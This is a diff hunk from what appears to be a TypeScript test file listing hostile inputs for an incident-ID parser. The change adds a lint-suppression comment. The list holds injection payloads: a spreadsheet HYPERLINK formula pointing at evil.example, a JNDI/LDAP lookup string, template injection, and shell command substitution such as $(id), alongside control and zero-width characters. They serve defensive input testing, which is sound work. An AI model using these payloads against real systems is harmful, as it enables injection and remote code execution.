@@ -146,6 +146,7 @@ const HOSTILE: [string, string][] = [
   ['zero width and tag characters', 'INC-1 a\u200bb\u2060c\u{e0041}\ufeffd'],
   ['controls', 'INC-1 \u0000\u0007\u001b[31mred\u001b[0m\r'],
   ['a formula', '=HYPERLINK("https://evil.example","INC-1") +1 @SUM(A1)'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what somebody might type
   ['templates and shell', 'INC-1 ${jndi:ldap://x} {{7*7}} $(id) `id` %s %n'],
   ['3,000 characters', `INC-1 ${'long '.repeat(598)}last`],
 ];
